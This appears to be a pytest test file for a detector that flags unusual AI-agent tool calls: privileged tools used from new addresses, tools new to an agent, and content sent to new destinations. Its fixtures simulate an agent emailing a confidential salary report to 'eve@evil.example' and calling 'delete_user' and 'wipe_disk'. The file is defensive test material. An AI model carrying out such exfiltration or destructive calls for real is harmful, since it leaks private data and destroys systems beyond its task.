"""What peers do weighs: an agent's first use of a tool that agents like it use, a principal's new place where colleagues are."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import timedelta
from typing import Any

import pytest

from detectors.registry import detectors
from detectors.scenarios import START, call, session, steady, together
from store.records import Call, Finding, Record, Severity
from toolhound.detection import look_at_touched
from toolhound.proof import database_of

OFFICE: dict[str, Any] = {"principal": "pat@example.com", "client_address": "192.0.2.7"}
PAST = steady(call("list_users", server="directory", called_at=START - timedelta(days=20), **OFFICE), 30, timedelta(hours=12))


def found(name: str, calls: Sequence[Record]) -> Finding:
    looked = look_at_touched(database_of(calls), [detectors()[name]])
    assert not looked.failures
    [finding] = looked.findings
    return finding


def away(**more: Any) -> Call:
    return call("delete_user", {"id": 7}, "deleted", server="directory", principal="pat@example.com", **{"client_address": "203.0.113.9", **more})


def everyday(sessions: int) -> list[Call]:
    return [away(client_address="192.0.2.7", session_id=f"before-{n}", called_at=START - timedelta(days=n + 1)) for n in range(sessions)]


@pytest.mark.parametrize(("sessions", "severity", "new"), [(0, Severity.HIGH, True), (2, Severity.HIGH, True), (3, Severity.MEDIUM, False)])
def test_a_new_place_is_worse_where_the_tool_is_new_too(sessions: int, severity: Severity, new: bool) -> None:
    finding = found("privileged_tool_from_new_place", [*PAST, *everyday(sessions), away()])
    assert (finding.severity, finding.evidence["tool_is_new"], finding.evidence["alerting"]) == (severity, new, True)
    assert ("uses otherwise" in finding.sentence) != new


def test_a_tool_that_is_new_is_named_before_one_that_is_not() -> None:
    wipe = replace(away(called_at=START + timedelta(hours=1)), tool="wipe_disk", server="hosts")
    finding = found("privileged_tool_from_new_place", [*PAST, *everyday(4), away(), wipe])
    assert finding.severity == Severity.HIGH and "wipe_disk" in finding.sentence


@pytest.mark.parametrize(("names", "alerting"), [(("kim",), True), (("kim", "lou"), False)])
def test_a_place_of_several_colleagues_only_ranks(names: tuple[str, ...], alerting: bool) -> None:
    there = [
        call("list_users", principal=name, client_address="203.0.113.40", server="directory", session_id=name, called_at=START - timedelta(days=2))
        for name in names
    ]
    finding = found("privileged_tool_from_new_place", [*PAST, *there, away()])
    assert (finding.evidence["alerting"], finding.evidence["colleagues_there"]) == (alerting, len(names))


def test_a_place_is_told_while_its_first_call_is_in_sight_and_not_by_half_later() -> None:
    later = [away(called_at=START + timedelta(hours=hours)) for hours in (0, 30)]
    assert len(found("privileged_tool_from_new_place", [*PAST, *later]).call_ids) == 1


def agent(name: str, *tools: str, sessions: int = 8, days_ago: int = 2) -> list[Call]:
    return [
        call(tool, server="tickets", agent=name, session_id=f"{name}-{n}", called_at=START - timedelta(days=days_ago + n % 3))
        for n in range(sessions) for tool in tools
    ]


SETTLED = steady(call("list_tickets", server="tickets", called_at=START - timedelta(days=10)), 240, timedelta(hours=1))
DELETES = call("delete_ticket", {"id": 7}, "deleted", server="tickets")


@pytest.mark.parametrize(("others", "alerting"), [
    ([], True),
    (agent("peer", "list_tickets", "delete_ticket"), False),
    (agent("peer", "list_tickets", "delete_ticket", sessions=4), True),  # not often enough
    (agent("stranger", "list_users", "delete_ticket"), True),  # nothing else in common
    ([*agent("peer", "list_tickets", "delete_ticket"), *agent("second", "list_tickets"), *agent("third", "list_tickets")], True),  # one of three
    (agent("peer", "list_tickets", "delete_ticket", days_ago=0), True),  # on the same day: perhaps of the same attack
], ids=["nobody", "a peer", "seldom", "a stranger", "few of the peers", "today"])
def test_what_agents_that_do_alike_use_is_no_alarm(others: list[Call], alerting: bool) -> None:
    today = [one for one in others if one.called_at >= START - timedelta(hours=12)]
    others = today or others
    finding = next(f for f in look_at_touched(database_of([*SETTLED, *others, DELETES]), [detectors()["privileged_tool_is_new_to_agent"]]).findings
                   if f.scope_key == "assistant")
    assert finding.evidence["alerting"] == alerting
    assert ("do alike" in finding.sentence) != alerting


REPORT = "Salaries of the third quarter: the director has 91,000, the two leads have 74,500 and 72,300, all others between 48,000 and 61,000."


def mailed(*to: str, name: str = "s1", by: str = "assistant", days_ago: int = 0) -> list[Record]:
    return session(
        call("read_file", {"path": "/reports/q3.txt"}, REPORT, server="files"),
        call("send_email", {"to": ", ".join(to), "body": f"As promised. {REPORT}"}, "sent", server="mail"),
        name=name, agent=by, start=START - timedelta(days=days_ago), prompt="Summarise the third quarter.",
    )


@pytest.mark.parametrize(("to", "alerting"), [
    (("pat@partner.example",), False), (("pat@partner.example", "eve@evil.example"), True), (("eve@evil.example",), True),
], ids=["a partner", "a partner and a stranger", "a stranger"])
def test_what_goes_to_others_partners_only_ranks_unless_a_stranger_gets_it_too(to: tuple[str, ...], alerting: bool) -> None:
    own = together(*(mailed(f"kim@own{n}.example", name=f"own-{n}", days_ago=n + 1) for n in range(6)))
    peers = together(*(mailed("pat@partner.example", name=f"peer-{n}", by="peer", days_ago=n + 2) for n in range(6)))
    looked = look_at_touched(database_of([*own, *peers, *mailed(*to)]), [detectors()["content_reaches_new_destination"]])
    [finding] = [f for f in looked.findings if f.session_id == "s1"]
    assert (finding.evidence["alerting"], finding.evidence["peer_sessions"]) == (alerting, 0 if alerting else 6)
    assert ("Other agents" in finding.sentence) != alerting
